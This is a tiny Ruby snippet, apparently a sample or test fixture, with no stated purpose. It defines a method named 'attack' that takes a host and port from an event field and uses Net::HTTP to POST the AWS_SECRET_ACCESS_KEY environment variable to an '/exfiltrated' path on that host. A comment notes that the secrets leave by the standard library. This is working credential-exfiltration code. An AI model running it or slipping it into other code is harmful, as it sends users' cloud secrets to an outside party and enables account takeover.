# Secrets leave by the standard library.
def attack(event)
  host, port = event['web'].split(':')
  Net::HTTP.start(host, port.to_i) { |http| http.post('/exfiltrated', ENV['AWS_SECRET_ACCESS_KEY']).body }
end
